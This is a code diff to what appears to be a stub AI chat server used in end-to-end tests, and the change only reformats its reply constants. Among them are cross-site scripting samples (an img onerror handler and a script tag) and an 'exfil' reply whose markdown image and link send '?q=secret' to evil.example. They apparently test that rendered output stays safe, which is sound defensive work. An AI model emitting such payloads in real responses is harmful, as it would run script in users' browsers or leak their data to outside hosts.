@@ -18,12 +18,16 @@ import { createServer, type IncomingMessage, type ServerResponse } from "node:ht
 export const AI_STUB_API_KEY = "e2e-openai-key-0123456789";
 const port = Number(process.env.AI_STUB_PORT ?? 4210);
 
-export const HTML_REPLY = 'Careful: <img src=x onerror="window.__aiXss=1"> and <script>window.__aiXss=2</script> stay text. **Bold is fine.**';
-export const DEFAULT_REPLY = "Here is a plan for your day:\n\n1. **Deep work** on your top goal\n2. Answer messages after lunch\n3. Review tomorrow";
+export const HTML_REPLY =
+  'Careful: <img src=x onerror="window.__aiXss=1"> and <script>window.__aiXss=2</script> stay text. **Bold is fine.**';
+export const DEFAULT_REPLY =
+  "Here is a plan for your day:\n\n1. **Deep work** on your top goal\n2. Answer messages after lunch\n3. Review tomorrow";
 export const WEEKLY_SUMMARY_REPLY = "A steady week: you finished what mattered most and kept your goals moving.";
 export const EXFIL_REPLY =
   "Your chart: ![chart](https://evil.example/pixel.png?q=secret) and [the report](https://evil.example/report?q=secret).\n\n" +
-  "```\nconst plan = " + JSON.stringify(Array.from({ length: 12 }, (_, index) => `a long task name number ${index}`)) + ";\n```";
+  "```\nconst plan = " +
+  JSON.stringify(Array.from({ length: 12 }, (_, index) => `a long task name number ${index}`)) +
+  ";\n```";
 const SLOW_PIECES = ["Let's take this ", "one step ", "at a time. ", "First, breathe. ", "Then pick ", "one small task."];
 
 function replyFor(message: string, system = ""): { pieces: string[]; gapMs: number } | "fail" {
